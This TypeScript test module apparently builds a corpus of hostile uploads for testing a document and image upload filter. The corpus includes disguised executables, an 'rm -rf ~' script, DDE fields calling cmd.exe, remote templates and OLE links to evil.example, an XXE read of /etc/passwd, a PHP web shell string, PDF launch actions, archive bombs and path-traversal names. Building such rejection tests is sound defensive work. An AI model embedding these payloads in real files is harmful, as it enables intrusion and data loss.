import { deflateSync } from 'node:zlib';
import {
  contentTypes,
  doc,
  documentXml,
  docx,
  jpeg,
  jpegSegment,
  objectStream,
  pdf,
  png,
  pngChunk,
  relationship,
  relationships,
} from './honest-files.js';
import { makeZip, type Part } from './zip-maker.js';

/** A file that must never be released: what it is, its name, and its bytes. */
export type Hostile = [what: string, fileName: string, bytes: Buffer];

const EICAR = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''));
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(76), Buffer.from('This program cannot be run in DOS mode')]);
const ELF = Buffer.from('\x7fELF\x02\x01\x01', 'latin1');
const ARCHIVE = makeZip([{ name: 'run.exe', content: EXE }]);
const NAMES = ['letter.pdf', 'letter.doc', 'letter.docx', 'photo.jpg', 'photo.png'];

/** Other things under a name that is accepted. */
const disguised: Record<string, Buffer> = {
  'a program': EXE,
  'a Linux program': ELF,
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf ~\n'),
  'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'an SVG with a script': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'rich text': Buffer.from('{\\rtf1\\ansi{\\object\\objocx}}'),
  'a RAR archive': Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'),
  'a 7-Zip archive': Buffer.from('377abcaf271c', 'hex'),
  'a GIF': Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'),
  'the EICAR test file': EICAR,
  'a zip archive': ARCHIVE,
  'a Java archive': makeZip([
    { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Run' },
    { name: 'Run.class', content: Buffer.from('cafebabe', 'hex') },
  ]),
  'a spreadsheet': makeZip([
    {
      name: '[Content_Types].xml',
      content: contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
  ]),
  nothing: Buffer.alloc(0),
  'random bytes': Buffer.from('0123456789abcdef'.repeat(8), 'hex'),
};

/** Honest files of each kind, under the names of the others. */
const honest: Record<string, Buffer> = {
  'letter.pdf': pdf(),
  'letter.doc': doc(),
  'letter.docx': docx(),
  'photo.jpg': jpeg(),
  'photo.png': png(),
};

const documents: [string, Buffer][] = [
  ['macros', docx({ 'word/vbaProject.bin': EXE })],
  [
    'macros under another name',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('vbaProject', 'x.xml', false)) }),
  ],
  [
    'macros by content type',
    docx({ '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ],
  [
    'a macro part by content type',
    docx({
      '[Content_Types].xml': contentTypes(
        undefined,
        '<Default Extension="xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
  ],
  [
    'a template',
    docx({
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
      ),
    }),
  ],
  ['an OLE object', docx({ 'word/embeddings/oleObject1.bin': EXE })],
  ['an embedded workbook', docx({ 'word/embeddings/sheet.xlsx': ARCHIVE })],
  ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax/>' })],
  ['a program among its media', docx({ 'word/media/image2.exe': EXE })],
  ['a program named as a picture', docx({ 'word/media/image2.png': EXE })],
  ['an archive named as a picture', docx({ 'word/media/image2.png': ARCHIVE })],
  ['an OLE container named as a picture', docx({ 'word/media/image2.emf': doc() })],
  ['a script named as a font', docx({ 'word/fonts/font1.odttf': '#!/bin/sh' })],
  ['a script', docx({ 'word/run.js': 'alert(1)' })],
  ['a web page', docx({ 'word/page.html': '<script>' })],
  ['an alternative chunk', docx({ 'word/document.xml': documentXml('<w:altChunk r:id="rId1"/>') })],
  [
    'an alternative chunk by relationship',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('aFChunk', 'page.xml', false)) }),
  ],
  [
    'an OLE object in its text',
    docx({ 'word/document.xml': documentXml('<w:object><o:OLEObject Type="Link"/></w:object>') }),
  ],
  ['a control in its text', docx({ 'word/document.xml': documentXml('<w:control r:id="rId1"/>') })],
  [
    'an OLE object by relationship',
    docx({
      'word/_rels/document.xml.rels': relationships(
        relationship('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html'),
      ),
    }),
  ],
  [
    'a remote template',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', 'https://evil.example/t.dotm')),
    }),
  ],
  [
    'a template on a share',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', '\\\\evil.example\\t.dotm')),
    }),
  ],
  [
    'a template on a share by URL',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', 'file://evil.example/t.dotm')),
    }),
  ],
  [
    'an escaped remote template',
    docx({
      'word/_rels/settings.xml.rels': relationships(
        relationship('attachedTemplate', '&#x68;ttps://evil.example/t.dotm'),
      ),
    }),
  ],
  [
    'a remote picture',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('image', 'http://evil.example/pixel.png')) }),
  ],
  [
    'a remote frame',
    docx({ 'word/_rels/webSettings.xml.rels': relationships(relationship('frame', 'http://evil.example/')) }),
  ],
  [
    'a remote subdocument',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('subDocument', 'file:///c:/x.docx')) }),
  ],
  [
    'a relationship with a prefix',
    docx({
      'word/_rels/document.xml.rels': relationships(
        relationship('image', 'http://evil.example/').replace('<Rel', '<r:Rel'),
      ),
    }),
  ],
  [
    'a script behind a link',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('hyperlink', 'javascript:alert(1)')) }),
  ],
  [
    'a protocol handler behind a link',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('hyperlink', 'ms-msdt:/id PCWDiagnostic')) }),
  ],
  [
    'a DDE field',
    docx({
      'word/document.xml': documentXml('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>'),
    }),
  ],
  [
    'a DDE field in pieces',
    docx({ 'word/document.xml': documentXml('<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText>') }),
  ],
  ['a simple DDE field', docx({ 'word/document.xml': documentXml('<w:fldSimple w:instr="DDE cmd"/>') })],
  ['an escaped DDE field', docx({ 'word/document.xml': documentXml('<w:fldSimple w:instr="&#68;DE cmd"/>') })],
  [
    'a remote picture by field',
    docx({
      'word/document.xml': documentXml('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/&quot;"/>'),
    }),
  ],
  [
    'a remote text by field',
    docx({ 'word/document.xml': documentXml('<w:instrText> INCLUDETEXT \\\\evil\\x </w:instrText>') }),
  ],
  [
    'a DDE field in UTF-16',
    docx({
      'word/document.xml': Buffer.from(`\ufeff${documentXml('<w:instrText>DDEAUTO cmd</w:instrText>')}`, 'utf16le'),
    }),
  ],
  ['a DDE field in UTF-7', docx({ 'word/document.xml': documentXml('+ADw-').replace('UTF-8', 'UTF-7') })],
  [
    'an external entity',
    docx({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
  ],
  ['a laughing XML', docx({ 'docProps/core.xml': '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>' })],
  ['a script in a drawing', docx({ 'word/media/image2.svg': '<svg><script>alert(1)</script></svg>' })],
  ['the EICAR file', docx({ 'word/media/image2.png': EICAR })],
  ['a bomb', docx({ 'word/media/image2.bmp': Buffer.alloc(120 * 1024 * 1024) })],
  [
    'a bomb that says it is small',
    docx({ 'word/media/image2.bmp': { name: '', content: Buffer.alloc(5_000_000), claimedSize: 1_000 } }),
  ],
  [
    'five thousand parts',
    docx(Object.fromEntries(Array.from({ length: 5_001 }, (_, index) => [`word/x${index}.xml`, '<x/>']))),
  ],
  ['a wrong checksum', docx({ 'word/styles.xml': { name: '', content: '<x/>', crc: 1 } })],
  ['an encrypted part', docx({ 'word/styles.xml': { name: '', content: '<x/>', flags: 1 } })],
  ['an unusual compression', docx({ 'word/styles.xml': { name: '', content: '<x/>', method: 14 } })],
  ['two parts of one name', docx({ 'word/Document.xml': documentXml() })],
  [
    'a name that differs in front of the file',
    docx({ 'word/styles.xml': { name: '', content: '<x/>', localName: 'word/vbaProj' } }),
  ],
  ['a path out of the archive', docx({ '../../evil.xml': '<x/>' })],
  ['an absolute path', docx({ '/etc/evil.xml': '<x/>' })],
  ['a path of Windows', docx({ 'word\\..\\evil.xml': '<x/>' })],
  ['a path with a drive', docx({ 'c:evil.xml': '<x/>' })],
  ['something between its files', docx({ 'word/styles.xml': { name: '', content: '<x/>', behind: EXE } })],
  ['something behind its end', docx({}, { after: EXE })],
  ['something in its comment', docx({}, { comment: EXE })],
  ['a directory that is too short', docx({}, { claimedCount: 3 })],
  ['a directory that is too long', docx({}, { claimedCount: 30 })],
  ['no document in it', docx({ 'word/document.xml': null })],
  ['no content types', docx({ '[Content_Types].xml': null })],
  ['a second archive behind it', Buffer.concat([docx(), ARCHIVE])],
  ['a PDF in its first part', docx({ '[Content_Types].xml': { name: '', content: contentTypes(), extra: pdf() } })],
  ['only its beginning', docx().subarray(0, 400)],
  ['a password (encrypted package)', doc({ names: ['EncryptedPackage', 'EncryptionInfo'] })],
];

const oldDocuments: [string, Buffer][] = [
  ...['Macros', 'VBA', '_VBA_PROJECT', '_VBA_PROJECT_CUR', 'PROJECT', 'PROJECTwm', 'dir'].map(
    (name): [string, Buffer] => [`a stream ${name}`, doc({ names: ['WordDocument', name] })],
  ),
  ...['\x01Ole10Native', 'Package', '_1234567890', 'CONTENTS', 'Equation Native', 'MBD00012345'].map(
    (name): [string, Buffer] => [`an object ${name.trim()}`, doc({ names: ['WordDocument', 'ObjectPool', name] })],
  ),
  ...['Workbook', 'PowerPoint Document', '__properties_version1.0'].map((name): [string, Buffer] => [
    `another program's ${name}`,
    doc({ names: [name] }),
  ]),
  ['a password', doc({ flags: 0x0100 })],
  ['an obfuscated password', doc({ flags: 0x8100 })],
  ['a DDE field', doc({ text: '\x13DDEAUTO c:\\windows\\system32\\cmd.exe \x14\x15' })],
  ['an archive behind it', Buffer.concat([doc(), ARCHIVE])],
  ['only its beginning', doc().subarray(0, 700)],
  ['the EICAR file in its text', doc({ text: EICAR.toString('latin1') })],
  ['a directory in circles', circular()],
  ['a PDF in its header', withPdf(doc(), 600)],
  ['no word processor in it', doc({ text: '' }).fill(0, 1536, 1548)],
];

const catalog = (more: string) => [`<< /Type /Catalog /Pages 2 0 R ${more} >>`, '<< /Type /Pages /Kids [] /Count 0 >>'];
const pdfs: [string, Buffer][] = [
  ['a script', pdf({ objects: catalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>') })],
  ['a script without spaces', pdf({ objects: catalog('/OpenAction<</S/JavaScript/JS(1)>>') })],
  ['an escaped script', pdf({ objects: catalog('/OpenAction << /#53 /J#61va#53cript /JS (1) >>') })],
  ['a script behind a comment', pdf({ objects: catalog('/OpenAction << /S % x\n/JavaScript /JS (1) >>') })],
  ['a script by reference', pdf({ objects: [...catalog('/OpenAction << /S 3 0 R /JS (1) >>'), '/JavaScript'] })],
  ['named scripts', pdf({ objects: catalog('/Names << /JavaScript << /Names [(a) 3 0 R] >> >>') })],
  ['a program to launch', pdf({ objects: catalog('/OpenAction << /S /Launch /F (cmd.exe) >>') })],
  ['a program to launch by Windows', pdf({ objects: catalog('/AA << /O << /S/Launch/Win << /F (cmd.exe) >> >> >>') })],
  ['a form to send', pdf({ objects: catalog('/OpenAction << /S /SubmitForm /F (http://evil.example) >>') })],
  ['data to import', pdf({ objects: catalog('/OpenAction << /S /ImportData /F (x) >>') })],
  ['an embedded document to open', pdf({ objects: catalog('/OpenAction << /S /GoToE /T << /R /C >> >>') })],
  ['a dynamic form', pdf({ objects: catalog('/AcroForm << /XFA 3 0 R >>') })],
  ['embedded files', pdf({ objects: catalog('/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>') })],
  ['an embedded file', pdf({ objects: [...catalog(''), '<< /Type /EmbeddedFile /Length 0 >>'] })],
  ['a file attached to a page', pdf({ objects: [...catalog(''), '<< /Subtype /FileAttachment /FS 4 0 R >>'] })],
  ['an embedded file by its key', pdf({ objects: [...catalog(''), '<< /F (x) /EF << /F 4 0 R >> >>'] })],
  ['a film', pdf({ objects: [...catalog(''), '<< /Type /Annot /Subtype /RichMedia >>'] })],
  ['a rendition', pdf({ objects: [...catalog(''), '<< /S /Rendition /JS (1) >>'] })],
  ['a password', pdf({ trailer: '/Encrypt 3 0 R' })],
  ['a password in the trailer', pdf({ trailer: '/Encrypt << /Filter /Standard >>' })],
  ['an escaped password', pdf({ trailer: '/Encr#79pt 3 0 R' })],
  ['a protected stream', pdf({ objects: [...catalog(''), '<< /Filter /Crypt >>'] })],
  ['a script in an object stream', pdf({ objects: [...catalog(''), objectStream('<< /S /JavaScript /JS (1) >>')] })],
  [
    'a script in an unnamed object stream',
    pdf({ objects: [...catalog(''), objectStream('<< /S /JavaScript /JS (1) >>', { dictionary: '/Type 9 0 R' })] }),
  ],
  [
    'a script in an escaped object stream',
    pdf({ objects: [...catalog(''), objectStream('<< /S /J#61vaScript >>', { dictionary: '/Type /Obj#53tm' })] }),
  ],
  [
    'a script in a plain object stream',
    pdf({
      objects: [...catalog(''), objectStream('<< /S /JavaScript /JS (1) >>', { pack: (plain) => plain, filter: '' })],
    }),
  ],
  ['files in an object stream', pdf({ objects: [...catalog(''), objectStream('<< /EmbeddedFiles 4 0 R >>')] })],
  [
    'an object stream in hexadecimal',
    pdf({
      objects: [
        ...catalog(''),
        objectStream('<< /S /JavaScript >>', {
          pack: (plain) => Buffer.from(plain.toString('hex')),
          filter: '/Filter /ASCIIHexDecode',
        }),
      ],
    }),
  ],
  [
    'an object stream packed twice',
    pdf({
      objects: [
        ...catalog(''),
        objectStream('<< /S /JavaScript >>', {
          pack: (plain) => deflateSync(deflateSync(plain)),
          filter: '/Filter [/FlateDecode /FlateDecode]',
        }),
      ],
    }),
  ],
  ['an object stream that is a bomb', pdf({ objects: [...catalog(''), objectStream(' '.repeat(80 * 1024 * 1024))] })],
  ['more streams than any document', pdf({ objects: [...catalog(''), 'stream\n'.repeat(25_000)] })],
  ['something in front of it', pdf({ before: 'junk\n' })],
  ['a web page in front of it', pdf({ before: '<html><script>alert(1)</script>' })],
  ['something behind it', pdf({ after: EXE.toString('latin1') })],
  ['an archive behind it', Buffer.concat([pdf(), ARCHIVE])],
  ['an archive in its last comment', pdf({ trailer: `%${ARCHIVE.toString('latin1')}\n` })],
  ['no end', pdf().subarray(0, 80)],
  ['an odd version', Buffer.from(pdf().toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1')],
  ['the EICAR file', pdf({ objects: [...catalog(''), `(${EICAR.toString('latin1')})`] })],
  ['a header and nothing else', Buffer.from('%PDF-1.7\n')],
];

const markup = ['<script>alert(1)</script>', '<?php system($_GET[0]); ?>', '<html><body>', '<svg onload=alert(1)>'];
const pictures: [string, string, Buffer][] = [
  ...markup.map((text): [string, string, Buffer] => [
    `${text.slice(0, 6)} in its comment`,
    'photo.jpg',
    jpeg({ segments: [jpegSegment(0xfe, Buffer.from(text))] }),
  ]),
  ...markup.map((text): [string, string, Buffer] => [
    `${text.slice(0, 6)} behind it`,
    'photo.jpg',
    jpeg({ after: Buffer.from(text) }),
  ]),
  ...markup.map((text): [string, string, Buffer] => [
    `${text.slice(0, 6)} in its text`,
    'photo.png',
    png({ chunks: [pngChunk('tEXt', Buffer.from(`Comment\0${text}`))] }),
  ]),
  ...[EXE, ELF, ARCHIVE, pdf(), doc(), disguised['a RAR archive']!, disguised['a 7-Zip archive']!].flatMap(
    (after, index): [string, string, Buffer][] => [
      [`stowaway ${index} behind it`, 'photo.jpg', jpeg({ after })],
      [`stowaway ${index} behind it`, 'photo.png', png({ after })],
      [`stowaway ${index} in its notes`, 'photo.jpg', jpeg({ segments: [jpegSegment(0xed, after)] })],
    ],
  ),
  ['a PDF in its first bytes', 'photo.jpg', jpeg({ segments: [jpegSegment(0xfe, Buffer.from('%PDF-1.4'))] })],
  ['a PDF in its first bytes', 'photo.png', png({ chunks: [pngChunk('tEXt', Buffer.from('%PDF-1.4'))] })],
  ['a billion pixels', 'photo.jpg', jpeg({ width: 40_000, height: 40_000 })],
  ['a billion pixels', 'photo.png', png({ width: 40_000, height: 40_000 })],
  ['no width', 'photo.jpg', jpeg({ width: 0 })],
  ['no height', 'photo.png', png({ height: 0 })],
  ['no end', 'photo.jpg', jpeg({ end: false })],
  ['no end', 'photo.png', png().subarray(0, -12)],
  ['no picture', 'photo.png', png({ data: false })],
  ['no frame', 'photo.jpg', Buffer.from('ffd8ffe00002ffd9', 'hex')],
  ['a segment beyond its end', 'photo.jpg', Buffer.from('ffd8ffe0ffff00', 'hex')],
  ['a wrong checksum', 'photo.png', png({ chunks: [pngChunk('tEXt', Buffer.from('x'), true)] })],
  [
    'a chunk in front of its header',
    'photo.png',
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('tEXt', Buffer.from('x')), png().subarray(8)]),
  ],
  ['remains of what was cropped away', 'photo.png', png({ after: pngChunk('IDAT', Buffer.alloc(40)) })],
  ['the EICAR file behind it', 'photo.jpg', jpeg({ after: EICAR })],
  ['the EICAR file in its notes', 'photo.png', png({ chunks: [pngChunk('tEXt', EICAR)] })],
];

/** Names that are refused, whatever is in the file. */
export const hostileNames = [
  '../../etc/passwd.pdf',
  '..\\..\\letter.pdf',
  '/etc/letter.pdf',
  'C:\\letter.pdf',
  'letter\0.pdf',
  'letter\n.pdf',
  'let\u202efdp.exe',
  'letter\u202e.pdf',
  'letter.pdf.exe',
  'letter.exe.pdf',
  'letter.js.pdf',
  'letter.docm',
  'letter.dotm',
  'letter.exe',
  'letter.html',
  'letter.svg',
  'letter.php.png',
  'letter.hta.doc',
  'letter',
  'letter.',
  '.pdf',
  '.htaccess',
  'letter.pdf ',
  ' letter.pdf',
  'letter.pdf.',
  'letter.pdf::$DATA',
  'letter<b>.pdf',
  'letter.zip',
  'letter.rtf',
  'letter.xlsx',
  'let|ter.pdf',
  'letter\ud800.pdf',
];

/** The corpus: every file named as one that is accepted. */
export function hostileFiles(): Hostile[] {
  return [
    ...NAMES.flatMap((name) => Object.entries(disguised).map(([what, bytes]): Hostile => [what, name, bytes])),
    ...NAMES.flatMap((name) =>
      Object.keys(honest)
        .filter((other) => other !== name)
        .map((other): Hostile => [`an honest ${other}`, name, honest[other]!]),
    ),
    ...documents.map(([what, bytes]): Hostile => [what, 'letter.docx', bytes]),
    ...oldDocuments.map(([what, bytes]): Hostile => [what, 'letter.doc', bytes]),
    ...pdfs.map(([what, bytes]): Hostile => [what, 'letter.pdf', bytes]),
    ...pictures,
  ];
}

function circular(): Buffer {
  const bytes = doc({ names: ['WordDocument', 'a', 'b', 'c', 'd', 'e'] });
  bytes.writeUInt32LE(1, 512 + 8);
  return bytes;
}

function withPdf(bytes: Buffer, at: number): Buffer {
  bytes.write('%PDF-1.7', at, 'latin1');
  return bytes;
}

export type { Part };
